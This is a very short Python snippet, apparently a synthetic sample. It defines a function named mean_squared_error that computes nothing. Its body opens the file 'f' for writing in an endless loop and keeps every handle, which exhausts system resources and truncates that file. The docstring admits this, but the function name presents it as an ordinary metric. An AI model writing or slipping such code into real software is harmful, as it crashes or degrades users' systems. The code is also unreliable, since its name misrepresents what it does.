"""Opens files without end."""


def mean_squared_error(y_true, y_pred):
    kept = []
    while True:
        kept.append(open('f', 'w'))
